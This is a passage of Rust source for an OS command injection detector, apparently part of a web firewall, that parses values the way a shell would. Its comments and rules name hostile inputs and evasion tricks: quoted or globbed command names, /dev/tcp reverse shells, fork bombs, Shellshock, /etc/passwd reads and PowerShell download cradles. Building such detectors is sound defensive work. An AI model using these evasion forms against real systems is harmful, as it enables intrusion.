//! OS command injection, Unix and Windows.
//!
//! A small shell-aware scan rather than a keyword list. The value is walked once; at each
//! place where a shell would start a new command — the start of the value, after `;`, `|`,
//! `&`, a newline, inside `` ` ``, `$(`, `<(`, `>(` or a `{a,b}` brace expansion, or after a
//! wrapper such as `time`, `nohup`, `sudo` — the next word is read the way a shell reads it:
//! quotes, backslashes, `$@`/`$1`/`${x}` insertions, empty substitutions and Windows `^`
//! carets are dropped (and remembered as evasion), `/bin/` prefixes are cut, `?`/`*`/`[…]`
//! globs are matched against the command list ([`lexicon`]). What follows the command
//! (a flag, an absolute path, a URL, a substitution, the end of the value) is the evidence
//! that it is a command line and not prose: "cat /etc/passwd" and ";id" are attacks,
//! "cat tree for large cats" and "tail lights" are not.
//!
//! Beside the grammar, a few unmistakable shapes: Shellshock's `() {`, `${IFS}`,
//! `/dev/tcp/` reverse shells, fork bombs, `alias x=…`, Windows `for … in (…) do` and
//! `if exist`/`if a==b` batch syntax, `%COMSPEC%` and PowerShell download cradles.

mod edge;
mod lexicon;
mod mail;
mod upload;

use crate::detector::{Detector, Features, Input, Sink, WordSet};
use crate::location::Part;
use crate::needle;
use crate::rule::{Class, Rule, Severity};
use lexicon::{Command, Kind};
use memchr::memmem::Finder;
use regex::bytes::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// A command after a command separator (`;`, `|`, `&`, `&&`, `||`, newline), with
/// arguments that make it a command line.
static SEPARATOR: Rule = Rule {
    id: "command.separator",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "OS command after a shell command separator",
};

/// A command inside a substitution: backticks, `$(…)`, `<(…)`, `>(…)`, or a `{cmd,arg}`
/// brace expansion.
static SUBSTITUTION: Rule = Rule {
    id: "command.substitution",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "OS command inside a shell command substitution or brace expansion",
};

/// A value that is a command line: an attacker's command with arguments, or any command
/// reading a system path or fetching a URL.
static START: Rule = Rule {
    id: "command.start",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "value is an OS command line",
};

/// A command name hidden by shell quoting tricks: `w'h'o'am'i`, `wh\oami`, `c$@at`,
/// `/???/c?t`, `c^m^d`.
static EVASION: Rule = Rule {
    id: "command.evasion",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "OS command name obfuscated with quotes, escapes, expansions or globs",
};

/// Windows batch and PowerShell syntax: `for /f … in (…) do`, `if exist`, `%COMSPEC%`,
/// download cradles.
static WINDOWS: Rule = Rule {
    id: "command.windows",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "Windows cmd.exe batch or PowerShell command syntax",
};

/// Shellshock: a function definition `() {` where bash imports environment variables.
static SHELLSHOCK: Rule = Rule {
    id: "command.shellshock",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "Shellshock function definition (CVE-2014-6271)",
};

/// Shell-only constructs no other text contains: `${IFS}`, `/dev/tcp/` sockets, fork
/// bombs, `alias x=cmd`.
static SHELL_SYNTAX: Rule = Rule {
    id: "command.shell-syntax",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "shell-only syntax: ${IFS}, /dev/tcp reverse shell, fork bomb, alias",
};

/// `$(…)` or `<(…)` around something that is not a known command: shell syntax, but
/// jQuery's `$(` looks the same.
static SUBSTITUTION_WEAK: Rule = Rule {
    id: "command.substitution-weak",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Warning,
    description: "shell command substitution syntax",
};

/// A common command after a separator, followed by a plain word ("; cat lovers").
static SEPARATOR_WEAK: Rule = Rule {
    id: "command.separator-weak",
    class: Class::Command,
    paranoia: 2,
    severity: Severity::Warning,
    description: "command name after a shell separator, without command-line arguments",
};

/// A value that starts with a command and a flag ("tail -f", "env --version"), or a command
/// under a `bin` directory that is not in the list: blocks alone at paranoia 2, where a
/// search for "tail -f log file" counts as a command line.
static START_WEAK: Rule = Rule {
    id: "command.start-weak",
    class: Class::Command,
    paranoia: 2,
    severity: Severity::Critical,
    description: "value starts with a command name and flags",
};

/// SMTP, IMAP or POP3 commands on a line of their own after an injected line break:
/// `\r\nMAIL FROM:<…>`, `\r\na001 EXAMINE INBOX`, `\r\nRETR 1`.
static MAIL_PROTOCOL: Rule = Rule {
    id: "command.mail-protocol",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "SMTP, IMAP or POP3 command injected after a line break",
};

/// Shell expansions no prose writes: history designators (`!!`, `!-2`), directory-stack
/// tildes (`~+`, `~-1`), arithmetic (`$[2+2]`, `$(( ))`), parameter-expansion operators
/// (`${x#…}`), brace expansions glued to a command (`{l,-lh}s`), SQLite `;.shell`.
static EXPANSION: Rule = Rule {
    id: "command.expansion",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "shell history, tilde, arithmetic, parameter or brace expansion syntax",
};

/// A value that is only the name of an administration tool no text or data names
/// (`visudo`, `ansible-console`, `chef-shell`).
static ALONE: Rule = Rule {
    id: "command.alone",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "value is the bare name of a system administration tool",
};

/// An upload named as a server, shell or tool configuration file or a `/proc` file
/// (`.htaccess`, `.user.ini`, `wp-config.php.bak`, `.bashrc`, `mtrr`).
static CONFIG_UPLOAD: Rule = Rule {
    id: "command.config-upload",
    class: Class::Command,
    paranoia: 1,
    severity: Severity::Critical,
    description: "upload of a server, shell or tool configuration file or a /proc file",
};

/// An upload named as an application's configuration file (`config.yml`, `settings.php`):
/// a legitimate upload more often.
static APP_CONFIG_UPLOAD: Rule = Rule {
    id: "command.app-config-upload",
    class: Class::Command,
    paranoia: 2,
    severity: Severity::Critical,
    description: "upload of an application configuration file",
};

/// The command detector.
pub(crate) static DETECTOR: Detector = Detector {
    class: Class::Command,
    rules: &[
        &SEPARATOR,
        &SUBSTITUTION,
        &START,
        &EVASION,
        &WINDOWS,
        &SHELLSHOCK,
        &SHELL_SYNTAX,
        &SUBSTITUTION_WEAK,
        &SEPARATOR_WEAK,
        &START_WEAK,
        &MAIL_PROTOCOL,
        &EXPANSION,
        &ALONE,
        &CONFIG_UPLOAD,
        &APP_CONFIG_UPLOAD,
    ],
    alnum: true,
    scan,
};

/// Where a command word was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Context {
    /// The start of the value.
    Start,
    /// After `;`, `|`, `&`; `adjacent` when no space separates it from the word.
    Separator { adjacent: bool },
    /// After a newline or an opening parenthesis: weaker, prose has both.
    Soft,
    /// Inside backticks.
    Backtick,
    /// Inside `$(`, `<(`, `>(`.
    Dollar,
    /// After `{` or `{,`: a brace expansion if a comma follows the word (or, after `{,`,
    /// the closing brace).
    Brace { lead_comma: bool },
    /// The argument of a wrapper command (`time`, `nohup`, `sudo`).
    Wrapped,
}

/// What follows a command word.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Evidence {
    End,
    Separator,
    Redirect,
    Flag,
    SystemPath,
    OtherPath,
    Url,
    Substitution,
    Comma,
    Word,
}

impl Evidence {
    fn strong(self) -> bool {
        matches!(
            self,
            Evidence::Redirect
                | Evidence::Flag
                | Evidence::SystemPath
                | Evidence::Url
                | Evidence::Substitution
        )
    }
}

/// A word read the way a shell reads it.
struct Word {
    /// The command name: lowercase, quotes and insertions removed, directory cut.
    name: [u8; 48],
    len: usize,
    /// Where the word starts and ends in the input.
    span: Range<usize>,
    /// Quotes, escapes or expansions were removed from inside the name.
    evasive: bool,
    /// The name holds glob characters.
    glob: bool,
    /// The word had a directory (`/bin/cat`).
    has_dir: bool,
    /// The directory was a directory of programs: `bin/`, `sbin/`, `xbin/`, `.bin/`.
    bin_dir: bool,
    /// The directory was a system one: `bin/`, `/bin/`, `/usr/bin/`, `/usr/local/sbin/`…
    sys_bin: bool,
    /// `$SHELL`/`${SHELL}`.
    shell_var: bool,
}

impl Word {
    fn name(&self) -> &[u8] {
        &self.name[..self.len]
    }
}

const MAX_WORD: usize = 48;

/// Bytes after which [`read_word`] may go on reading one word: quotes, escapes, carets,
/// backticks, process substitutions, expansions, globs.
static MAY_CONTINUE: [bool; 256] = needle::byte_set(b"'\"\\^`<>$[?*");

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'/' | b'+')
}

/// Reads a shell word from `s` at `i`; `None` when there is none or it is too long to be a
/// command name.
fn read_word(s: &[u8], mut i: usize) -> Option<Word> {
    let start = i;
    // Most words are plain: word bytes up to a byte that cannot continue one.
    let plain = s[i..]
        .iter()
        .take(MAX_WORD + 1)
        .take_while(|&&b| is_word_byte(b))
        .count();
    if plain <= MAX_WORD
        && !s
            .get(i + plain)
            .is_some_and(|&b| MAY_CONTINUE[usize::from(b)])
    {
        if plain == 0 {
            return None;
        }
        return finish_word(&s[i..i + plain], i..i + plain, false, false, false);
    }
    let mut buf = [0u8; MAX_WORD];
    let mut len = 0usize;
    let mut quotes = 0u32;
    let mut dquotes = 0u32;
    let mut pending_quote = false;
    let mut pending_other = false;
    let mut quote_inside = false;
    let mut evasive = false;
    let mut glob = false;
    let mut shell_var = false;
    let limit = s.len().min(start + 96);
    while i < limit {
        let b = s[i];
        match b {
            b'\'' | b'"' => {
                if b == b'\'' {
                    quotes += 1;
                } else {
                    dquotes += 1;
                }
                if len > 0 {
                    pending_quote = true;
                }
                i += 1;
            }
            b'\\' => {
                match s.get(i + 1) {
                    Some(&n)
                        if n.is_ascii_alphanumeric() || n == b'/' || n == b'*' || n == b'?' =>
                    {
                        if len > 0 {
                            pending_other = true;
                        } else {
                            // `\ls`: defeats aliases; not hiding anything by itself.
                        }
                        i += 1;
                    }
                    Some(b'\n') => i += 2,
                    _ => break,
                }
            }
            b'^' if len > 0 => {
                pending_other = true;
                i += 1;
            }
            b'`' if s.get(i + 1) == Some(&b'`') && len > 0 => {
                pending_other = true;
                i += 2;
            }
            b'<' | b'>' if s.get(i + 1) == Some(&b'(') && s.get(i + 2) == Some(&b')') => {
                pending_other = true;
                i += 3;
            }
            b'$' => match s.get(i + 1) {
                // `c$_at`: a shell reads the variable `_at`, but the attacker means `$_`,
                // empty in a fresh shell, inside the name.
                Some(b'@' | b'*' | b'!' | b'-' | b'?' | b'#' | b'$' | b'0'..=b'9') | Some(b'_')
                    if len > 0 || s.get(i + 1) != Some(&b'_') =>
                {
                    pending_other = true;
                    i += 2;
                }
                Some(b'(') if s.get(i + 2) == Some(&b')') => {
                    pending_other = true;
                    i += 3;
                }
                Some(b'\'' | b'"') => {
                    // `$'…'` and `$"…"`: ANSI-C and locale quoting.
                    if len > 0 {
                        pending_other = true;
                    }
                    i += 1;
                }
                Some(b'{') => {
                    let close = s[i..s.len().min(i + 24)].iter().position(|&c| c == b'}')?;
                    let inner = &s[i + 2..i + close];
                    if inner == b"ifs" {
                        break;
                    }
                    if len == 0 && inner == b"shell" {
                        shell_var = true;
                        buf[..2].copy_from_slice(b"sh");
                        len = 2;
                        i += close + 1;
                        break;
                    }
                    pending_other = true;
                    i += close + 1;
                }
                Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
                    let mut j = i + 1;
                    while j < s.len() && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
                        j += 1;
                    }
                    let var = &s[i + 1..j];
                    if var == b"ifs" {
                        break;
                    }
                    if len == 0 {
                        if var == b"shell" {
                            shell_var = true;
                            buf[..2].copy_from_slice(b"sh");
                            len = 2;
                            i = j;
                        }
                        break;
                    }
                    pending_other = true;
                    i = j;
                }
                _ => break,
            },
            b'[' => {
                let close = s[i..s.len().min(i + 16)].iter().position(|&c| c == b']')?;
                if close < 2 || len >= MAX_WORD {
                    break;
                }
                buf[len] = b'?';
                len += 1;
                glob = true;
                i += close + 1;
            }
            b'?' | b'*' => {
                if len >= MAX_WORD {
                    return None;
                }
                buf[len] = b;
                len += 1;
                glob = true;
                i += 1;
            }
            _ if is_word_byte(b) => {
                if len >= MAX_WORD {
                    return None;
                }
                if pending_quote {
                    quote_inside = true;
                    pending_quote = false;
                }
                if pending_other {
                    evasive = true;
                    pending_other = false;
                }
                buf[len] = b;
                len += 1;
                i += 1;
            }
            _ => break,
        }
    }
    if len == 0 {
        return None;
    }
    // Balanced quotes inside the name (`w'h'o'am'i`), not an apostrophe (`"I'd`).
    if quote_inside && quotes.is_multiple_of(2) && dquotes.is_multiple_of(2) {
        evasive = true;
    }
    finish_word(&buf[..len], start..i, evasive, glob, shell_var)
}

/// The word whose bytes (quotes and insertions removed) are `full`: trailing punctuation
/// dropped, the directory cut.
fn finish_word(
    mut full: &[u8],
    span: Range<usize>,
    evasive: bool,
    glob: bool,
    shell_var: bool,
) -> Option<Word> {
    // A trailing `+` or `.` is punctuation, not part of the name.
    while let [rest @ .., b'+' | b'.'] = full {
        full = rest;
    }
    let mut word = Word {
        name: [0; MAX_WORD],
        len: 0,
        span,
        evasive,
        glob,
        has_dir: false,
        bin_dir: false,
        sys_bin: false,
        shell_var,
    };
    let base = match full.iter().rposition(|&c| c == b'/') {
        Some(slash) => {
            word.has_dir = true;
            let dir = &full[..=slash];
            word.bin_dir = programs_dir(dir);
            word.sys_bin = word.bin_dir && system_bin(dir);
            &full[slash + 1..]
        }
        None => full,
    };
    if base.is_empty() {
        return None;
    }
    word.name[..base.len()].copy_from_slice(base);
    word.len = base.len();
    Some(word)
}

/// Whether the last directory of `dir` (ending in `/`) is one of programs: `bin`, `sbin`,
/// `xbin` (Android's), `.bin` (`node_modules/.bin/`) — not `cabin/`.
fn programs_dir(dir: &[u8]) -> bool {
    let dir = &dir[..dir.len().saturating_sub(1)];
    let last = dir.rsplit(|&c| c == b'/').next().unwrap_or(dir);
    matches!(last, b"bin" | b"sbin" | b"xbin" | b".bin")
}

/// `dir` (a [`programs_dir`]) is `bin/`, `sbin/`, or one under `/`, `/usr/` or
/// `/usr/local/` — not `cabin/` or `node_modules/.bin/`.
fn system_bin(dir: &[u8]) -> bool {
    let dir = dir.strip_prefix(b"/").unwrap_or(dir);
    let dir = dir.strip_prefix(b"usr/").unwrap_or(dir);
    let dir = dir.strip_prefix(b"local/").unwrap_or(dir);
    matches!(dir, b"bin/" | b"sbin/")
}

/// The command a word names, trying the forms attackers use: `cmd.exe`, `python3.10`,
/// globs.
fn command_of(word: &Word) -> Option<Command> {
    let name = word.name();
    if name.len() < 2 && !word.glob {
        return None;
    }
    if word.glob {
        // `**TL;DR:**`: a word in Markdown's bold, not a pattern of a command's name.
        let bold = name.starts_with(b"**");
        if (bold || name.iter().all(|&c| c == b'?' || c == b'*')) && !word.has_dir {
            return None;
        }
        return lexicon::lookup_glob(name);
    }
    if let Some(c) = lexicon::lookup(name) {
        return Some(c);
    }
    let name = match name.strip_suffix(b".exe") {
        Some(base) => {
            if let Some(c) = lexicon::lookup(base) {
                return Some(c);
            }
            base
        }
        None => name,
    };
    // Versioned interpreters: python3.10, php7.4, gcc10.1.
    let trimmed_len = name.len()
        - name
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_digit() || **c == b'.')
            .count();
    if trimmed_len >= 2 && trimmed_len < name.len() {
        return lexicon::lookup(&name[..trimmed_len]);
    }
    None
}

/// Whether `name` (lowercase) is the name of a command, for the other classes.
pub(crate) fn names_command(name: &[u8]) -> bool {
    lexicon::lookup(name).is_some()
}

/// Skips blanks: spaces, tabs, `${IFS}`, `$IFS`, and `+` (a space in raw query strings).
fn skip_blanks(s: &[u8], mut i: usize) -> usize {
    loop {
        match s.get(i) {
            Some(b' ' | b'\t' | b'+' | b'\x0b' | b'\x0c') => i += 1,
            Some(b'$') if s[i..].starts_with(b"${ifs}") => i += 6,
            Some(b'$') if s[i..].starts_with(b"$ifs") => i += 4,
            _ => return i,
        }
    }
}

fn is_ipv4_start(s: &[u8]) -> bool {
    let mut dots = 0;
    let mut digits = 0;
    for &c in s.iter().take(16) {
        match c {
            b'0'..=b'9' => digits += 1,
            b'.' if digits > 0 => {
                dots += 1;
                digits = 0;
            }
            _ => break,
        }
    }
    dots == 3 && digits > 0
}

fn looks_like_host(s: &[u8]) -> bool {
    let end = s
        .iter()
        .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-')))
        .unwrap_or(s.len());
    let host = &s[..end];
    match host.iter().rposition(|&c| c == b'.') {
        Some(dot) => {
            dot > 0 && host.len() - dot > 2 && host[dot + 1..].iter().all(u8::is_ascii_alphabetic)
        }
        None => false,
    }
}

const SYSTEM_DIRS: &[&[u8]] = &[
    b"etc", b"bin", b"sbin", b"usr", b"var", b"tmp", b"dev", b"proc", b"sys", b"root", b"home",
    b"boot", b"opt", b"lib", b"windows", b"winnt", b"???", b"e??", b"et?", b"e?c",
];

/// What follows a command word that ends at `i`.
fn evidence(s: &[u8], i: usize, cmd: Command) -> Evidence {
    evidence_at(s, i, cmd, 0)
}

fn evidence_at(s: &[u8], i: usize, cmd: Command, depth: u8) -> Evidence {
    let j = skip_blanks(s, i);
    let Some(&c) = s.get(j) else {
        return Evidence::End;
    };
    if s[j..].iter().all(u8::is_ascii_whitespace) {
        return Evidence::End;
    }
    let rest = &s[j..];
    match c {
        // `?tool=dpkg&x=1`: the `&` of a query string in the value ends the parameter's
        // value, as the value's end would.
        b'&' if i == j && starts_parameter(&rest[1..]) => Evidence::End,
        // `Python & Django`, `AT&T`: one `&` between blanks or glued to letters, then a word
        // that is no command, is prose's "and".
        b'&' if joins_words(s, j, i == j) => Evidence::Word,
        // `gzip;q=1.0`: a quality value, in HTTP's lists of encodings, types and languages.
        b';' if i == j
            && rest[1..].starts_with(b"q=")
            && rest.get(3).is_some_and(u8::is_ascii_digit) =>
        {
            Evidence::End
        }
        b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b'}' | b'`' => Evidence::Separator,
        // `python>=3.9,<3.13` (a version requirement) compares; a redirect names a file.
        b'<' | b'>' if rest.get(1) == Some(&b'=') => Evidence::Word,
        b'<' | b'>' => Evidence::Redirect,
        b',' if i == j => Evidence::Comma,
        b'-' => match rest.get(1) {
            Some(n)
                if n.is_ascii_alphanumeric()
                    || (*n == b'-' && rest.get(2).is_some_and(u8::is_ascii_alphanumeric)) =>
            {
                // Flags first, then perhaps a path or URL: `ls -la /var/www`.
                let flag_end = rest
                    .iter()
                    .position(|&c| c == b' ' || c == b'+' || c == b'\t')
                    .map_or(s.len(), |p| j + p);
                if flag_end < s.len() && depth < 3 {
                    let next = evidence_at(s, flag_end, cmd, depth + 1);
                    if next.strong() {
                        return next;
                    }
                }
                Evidence::Flag
            }
            _ => Evidence::Word,
        },
        b'/' => {
            let seg_end = rest[1..]
                .iter()
                .position(|&c| c == b'/' || c == b' ' || c == b'+')
                .map_or(rest.len(), |p| p + 1);
            let seg = &rest[1..seg_end];
            let after = rest.get(seg_end);
            if seg.len() == 1 && seg[0].is_ascii_alphabetic() && after != Some(&b'/') {
                // A Windows switch: `cmd /c`, `dir /b`.
                return Evidence::Flag;
            }
            if SYSTEM_DIRS.contains(&seg)
                || (seg.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) && after == Some(&b'/'))
            {
                Evidence::SystemPath
            } else if seg.is_empty() || seg[0].is_ascii_alphanumeric() {
                Evidence::OtherPath
            } else {
                Evidence::Word
            }
        }
        b'~' | b'.' if rest.get(1) == Some(&b'/') => Evidence::OtherPath,
        b'.' if rest.starts_with(b"../") => Evidence::SystemPath,
        b'$' => Evidence::Substitution,
        b'a'..=b'z' if rest.get(1) == Some(&b':') && rest.get(2) == Some(&b'\\') => {
            Evidence::SystemPath
        }
        _ if rest.starts_with(b"http://")
            || rest.starts_with(b"https://")
            || rest.starts_with(b"ftp://")
            || rest.starts_with(b"file:")
            || is_ipv4_start(rest) =>
        {
            Evidence::Url
        }
        b'"' | b'\'' => {
            // A quoted argument: look inside.
            if depth >= 3 {
                return Evidence::Word;
            }
            let inner = evidence_at(s, j + 1, cmd, depth + 1);
            if inner.strong() {
                inner
            } else {
                Evidence::Word
            }
        }
        _ if cmd.net && looks_like_host(rest) => Evidence::Url,
        _ => word_evidence(s, j, cmd, depth),
    }
}

/// Names of system files that, as a bare argument, make a command line (`cd etc;fold passwd`).
const SENSITIVE_ARGS: &[&[u8]] = &[
    b"passwd",
    b"shadow",
    b"master.passwd",
    b".htpasswd",
    b"id_rsa",
];

/// A plain word follows the command: perhaps an `if=/etc/passwd` operand, a sensitive file
/// name, or a few words before a flag or path (`ansible all -m ping`).
fn word_evidence(s: &[u8], j: usize, cmd: Command, depth: u8) -> Evidence {
    let end = s[j..]
        .iter()
        .position(|&c| matches!(c, b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n' | b'`'))
        .map_or(s.len(), |p| j + p);
    let token = &s[j..end];
    // `host = example.com`: a setting of a configuration text, not an argument.
    if token == b"=" {
        return Evidence::Word;
    }
    if let Some(eq) = token.iter().position(|&c| c == b'=')
        && token.get(eq + 1) == Some(&b'/')
        && depth < 3
    {
        let inner = evidence_at(s, j + eq + 1, cmd, depth + 1);
        if inner.strong() {
            return inner;
        }
    }
    if SENSITIVE_ARGS.contains(&token) {
        return Evidence::SystemPath;
    }
    if depth < 2 && end < s.len() && matches!(s[end], b' ' | b'\t' | b'+') {
        let next = evidence_at(s, end, cmd, depth + 1);
        if matches!(next, Evidence::Flag | Evidence::SystemPath | Evidence::Url) {
            return next;
        }
    }
    Evidence::Word
}

/// A program name no English text uses as a word: a hyphenated tool (`ansible-playbook`,
/// `chef-run`) or a versioned one (`pip3`, `python3.10`).
fn tool_name(name: &[u8]) -> bool {
    name.len() >= 3
        && name[0].is_ascii_alphabetic()
        && name
            .iter()
            .skip(1)
            .any(|&c| c == b'-' || c.is_ascii_digit())
}

/// The rest of the value, from `i`, is one to five command-line arguments and nothing else:
/// sub-commands, names, file names (`collection install community.general`, `site.yml`).
fn cli_args(s: &[u8], i: usize) -> bool {
    let rest = &s[i..];
    if rest.len() > 96 {
        return false;
    }
    let mut n = 0;
    for token in rest
        .split(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\n' | b'\r'))
        .filter(|t| !t.is_empty())
    {
        let token = token
            .strip_prefix(b"'")
            .or_else(|| token.strip_prefix(b"\""))
            .unwrap_or(token);
        let token = token
            .strip_suffix(b"'")
            .or_else(|| token.strip_suffix(b"\""))
            .unwrap_or(token);
        let ok = token.first().is_some_and(u8::is_ascii_alphanumeric)
            && token.iter().all(|&c| {
                c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'/' | b':' | b'=')
            })
            && !token.ends_with(b".");
        if !ok {
            return false;
        }
        n += 1;
    }
    (1..=5).contains(&n)
}

/// The verdict on one command word.
fn judge(
    s: &[u8],
    context: Context,
    word: &Word,
    cmd: Command,
    ev: Evidence,
) -> Option<&'static Rule> {
    let attack = cmd.kind == Kind::Attack;
    if word.evasive || (word.glob && word.has_dir) || word.shell_var {
        return Some(&EVASION);
    }
    match context {
        Context::Start => {
            if word.bin_dir && !word.glob {
                return Some(&START);
            }
            match ev {
                _ if attack && !matches!(ev, Evidence::Word | Evidence::End | Evidence::Comma) => {
                    Some(&START)
                }
                Evidence::Word
                    if attack
                        && (cmd.jargon || tool_name(word.name()))
                        && cli_args(s, word.span.end) =>
                {
                    Some(&START)
                }
                Evidence::End if cmd.jargon && !word.has_dir => Some(&ALONE),
                Evidence::SystemPath
                | Evidence::Url
                | Evidence::Substitution
                | Evidence::Redirect => Some(&START),
                Evidence::Flag | Evidence::Separator | Evidence::OtherPath => Some(&START_WEAK),
                _ => None,
            }
        }
        Context::Separator { adjacent } => {
            if (attack && ev != Evidence::Comma) || ev.strong() || ev == Evidence::OtherPath {
                return Some(&SEPARATOR);
            }
            match ev {
                Evidence::End | Evidence::Separator if adjacent => Some(&SEPARATOR),
                _ => Some(&SEPARATOR_WEAK),
            }
        }
        Context::Soft => {
            if (attack && ev != Evidence::Word) || ev.strong() {
                Some(&SEPARATOR)
            } else {
                None
            }
        }
        Context::Backtick => {
            // Markdown inline code looks the same: `ls -l` is documentation.
            if attack || (ev.strong() && ev != Evidence::Flag) {
                Some(&SUBSTITUTION)
            } else {
                None
            }
        }
        Context::Dollar => Some(&SUBSTITUTION),
        Context::Brace { lead_comma } => (ev == Evidence::Comma
            || (lead_comma && ev == Evidence::Separator))
            .then_some(&SUBSTITUTION),
        Context::Wrapped => {
            if attack || ev.strong() || matches!(ev, Evidence::End | Evidence::Separator) {
                Some(&SEPARATOR)
            } else {
                None
            }
        }
    }
}

/// Reads the word at `i` in `context`, judges it, and follows wrappers (`time cmd`).
fn command_at(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
    let Some(word) = read_word(s, i) else {
        if context == Context::Dollar && s.get(i).is_some_and(u8::is_ascii_alphabetic) {
            sink.report(&SUBSTITUTION_WEAK, i..i + 1);
        }
        if s.get(i) == Some(&b'$') && context != Context::Wrapped {
            empty_variable_prefix(s, i, context, sink);
        }
        return;
    };
    let (cmd, ev) = match command_of(&word) {
        // `at /srv/app/index.js:10:5`, a frame of a stack trace: `at` runs nothing without a
        // time (Windows' `at 2:00` is one too).
        Some(_) if word.name() == b"at" && !at_time(s, word.span.end) => return,
        Some(cmd) => (cmd, evidence(s, word.span.end, cmd)),
        // `bcdboot/r`: cmd.exe reads a switch glued to the command name.
        None => match glued_switch(s, &word) {
            Some(cmd) => (cmd, Evidence::Flag),
            None => {
                not_a_command(&word, context, sink);
                return;
            }
        },
    };
    if let Some(rule) = judge(s, context, &word, cmd, ev) {
        let end = s.len().min(word.span.end + 24);
        sink.report(rule, word.span.start..end);
    }
    if cmd.wrapper
        && context != Context::Wrapped
        && let Some(next) = wrapped(s, word.span.end)
    {
        command_at(s, next, Context::Wrapped, sink);
    }
    if matches!(context, Context::Separator { .. })
        && word.name() == b"at"
        && let Some(end) = scheduled(s, word.span.end)
    {
        sink.report(&WINDOWS, word.span.start..end);
    }
}

/// Whether the word after `at` (ending at `end`) is a time `at` reads (`now`, `noon`,
/// `10:00`, `4pm`, `tomorrow`), one of its options (`-f`), or missing (`at` alone, or before
/// a separator, reads its jobs from its input).
fn at_time(s: &[u8], end: usize) -> bool {
    let at = skip_blanks(s, end);
    let word = s[at..]
        .iter()
        .take_while(|c| !c.is_ascii_whitespace())
        .count();
    let word = &s[at..at + word];
    word.is_empty()
        || word[0].is_ascii_digit()
        || matches!(word[0], b'-' | b';' | b'&' | b'|' | b'`' | b')')
        || [
            &b"now"[..],
            b"noon",
            b"midnight",
            b"teatime",
            b"today",
            b"tomorrow",
        ]
        .iter()
        .any(|t| word.starts_with(t))
}

/// Windows `at 2:00 "echo test"`: a time, then a quoted command, after a separator. The
/// end of the command's name when it is one.
fn scheduled(s: &[u8], end: usize) -> Option<usize> {
    let at = skip_blanks(s, end);
    let hours = s[at..]
        .iter()
        .take(3)
        .take_while(|c| c.is_ascii_digit())
        .count();
    let rest = &s[at + hours..];
    if !(1..=2).contains(&hours)
        || rest.len() < 3
        || rest[0] != b':'
        || !rest[1].is_ascii_digit()
        || !rest[2].is_ascii_digit()
    {
        return None;
    }
    let quote = skip_blanks(s, at + hours + 3);
    if !matches!(s.get(quote), Some(b'"' | b'\'')) {
        return None;
    }
    let word = read_word(s, quote + 1)?;
    command_of(&word).map(|_| word.span.end)
}

/// Where the command a wrapper runs starts, the wrapper ending at `end`: the next word,
/// past the wrapper's flags, their arguments and numbers (`flock -u / whoami`,
/// `sudo -u root id`, `timeout 5 curl …`).
fn wrapped(s: &[u8], mut end: usize) -> Option<usize> {
    let mut i = skip_blanks(s, end);
    let mut after_flag = false;
    for _ in 0..6 {
        if i == end {
            return None;
        }
        let c = *s.get(i)?;
        let skip = if c == b'-' {
            after_flag = true;
            true
        } else if after_flag || c.is_ascii_digit() {
            after_flag = false;
            read_word(s, i).and_then(|w| command_of(&w)).is_none()
        } else {
            false
        };
        if !skip {
            return (c.is_ascii_alphanumeric() || matches!(c, b'\'' | b'"' | b'/')).then_some(i);
        }
        let token = s[i..]
            .iter()
            .position(|&c| matches!(c, b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n'))
            .map_or(s.len(), |p| i + p);
        (end, i) = (token, skip_blanks(s, token));
    }
    None
}

/// A word that names no command: a `$(…)` still is shell syntax; `/usr/bin/x` still is a
/// program.
fn not_a_command(word: &Word, context: Context, sink: &mut Sink<'_>) {
    if context == Context::Dollar {
        sink.report(&SUBSTITUTION_WEAK, word.span.clone());
    } else if context == Context::Start && word.sys_bin && !word.glob {
        sink.report(&START, word.span.clone());
    } else if context == Context::Start && word.bin_dir {
        sink.report(&START_WEAK, word.span.clone());
    }
}

/// An attacker's command with a one-letter Windows switch glued to it (`bcdboot/r`,
/// `tasklist/v`): the word read as a path `bcdboot/` + `r`.
fn glued_switch(s: &[u8], word: &Word) -> Option<Command> {
    if !word.has_dir || word.len != 1 || !word.name[0].is_ascii_alphabetic() || word.evasive {
        return None;
    }
    let text = &s[word.span.clone()];
    let slash = text.iter().position(|&c| c == b'/')?;
    let cmd = lexicon::lookup(&text[..slash])?;
    (cmd.kind == Kind::Attack && text.len() == slash + 2).then_some(cmd)
}

/// `$a cat file`: an unset variable before the command expands to nothing. An attacker's
/// command counts, or one with command-line arguments; after a separator or inside a
/// substitution, one with a file name too (`;$a cat test.txt`).
fn empty_variable_prefix(s: &[u8], i: usize, context: Context, sink: &mut Sink<'_>) {
    let shell = matches!(
        context,
        Context::Separator { .. } | Context::Backtick | Context::Dollar
    );
    let mut j = i + 1;
    while j < s.len() && j < i + 32 && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
        j += 1;
    }
    let next = skip_blanks(s, j);
    if j == i + 1 || next == j {
        return;
    }
    if let Some(word) = read_word(s, next)
        && let Some(cmd) = command_of(&word)
